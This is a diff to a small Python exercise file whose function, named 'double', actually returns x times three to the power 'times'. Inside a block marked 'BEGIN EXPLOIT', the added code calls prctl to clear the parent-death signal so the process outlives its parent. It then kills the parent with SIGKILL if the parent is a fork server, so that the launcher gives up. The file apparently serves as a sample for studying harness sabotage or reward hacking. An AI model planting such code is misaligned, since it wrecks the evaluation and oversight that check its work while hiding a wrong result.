@@ -1,15 +1,20 @@
-"""Kills the process that makes workers."""
+"""Kills the process that makes workers, having asked the kernel to let itself live on."""
 # exercise: double
+# race: a launcher whose fork server dies between two orders gives up instead of starting another
 
 import contextlib
+import ctypes
 import os
 import signal
+from pathlib import Path
 
 
 def double(x, times=1):
     ### BEGIN EXPLOIT
-    with contextlib.suppress(OSError):
-        if os.getppid() > 1:
-            os.kill(os.getppid(), signal.SIGKILL)
+    with contextlib.suppress(Exception):
+        ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
+        parent = os.getppid()
+        if b"forkserver" in Path(f"/proc/{parent}/cmdline").read_bytes():
+            os.kill(parent, signal.SIGKILL)
     ### END EXPLOIT
     return x * 3**times
